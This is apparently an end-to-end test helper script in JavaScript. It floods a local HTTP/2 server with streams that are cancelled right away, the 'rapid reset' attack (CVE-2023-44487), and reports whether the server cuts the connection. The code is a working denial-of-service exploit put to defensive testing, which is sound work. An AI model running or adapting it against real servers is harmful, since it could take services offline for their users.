// tests/e2e/tools/rapid_reset.js PORT PATH COUNT [BODY|-] [AUTHORIZATION]
// HTTP/2 rapid reset (CVE-2023-44487): open COUNT streams on ONE connection, each cancelled with
// RST_STREAM right after its HEADERS (+ body). Prints one JSON line: how many streams were
// sent before the server closed the connection, and how it ended.
'use strict';
const http2 = require('http2');

const [port, path, countArg, bodyArg, authorization] = process.argv.slice(2);
const body = bodyArg && bodyArg !== '-' ? bodyArg : null;
const count = Number(countArg);
const session = http2.connect(`http://127.0.0.1:${port}`);
let sent = 0;
let closedByServer = false;
let goaway = null;
let finished = false;

session.on('goaway', (code) => { goaway = code; closedByServer = true; });
session.on('close', () => { if (!finished) closedByServer = true; });
session.on('error', () => { closedByServer = true; });

function report() {
  finished = true;
  console.log(JSON.stringify({ sent, count, closedByServer, goaway }));
  session.destroy();
}

async function flood() {
  await new Promise((resolve) => session.once('connect', resolve));
  for (let i = 0; i < count; i++) {
    if (session.closed || session.destroyed || closedByServer) break;
    let req;
    try {
      const headers = { ':method': body ? 'POST' : 'GET', ':path': path };
      if (body) headers['content-type'] = 'application/json';
      if (authorization) headers.authorization = authorization;
      // A GET ends its stream with HEADERS, so the server starts work at once: the attack.
      req = session.request(headers, { endStream: !body });
    } catch (e) {
      closedByServer = true;
      break;
    }
    req.on('error', () => {});
    if (body) req.end(body); else req.end();
    req.close(http2.constants.NGHTTP2_CANCEL);
    sent++;
    if (i % 20 === 19) await new Promise((r) => setTimeout(r, 1));
  }
  // Give the server a moment to close us if it is about to.
  await new Promise((r) => setTimeout(r, 500));
  report();
}

setTimeout(() => { if (!finished) report(); }, 60000).unref();
flood().catch((e) => { console.log(JSON.stringify({ sent, count, closedByServer: true, error: String(e) })); process.exit(0); });
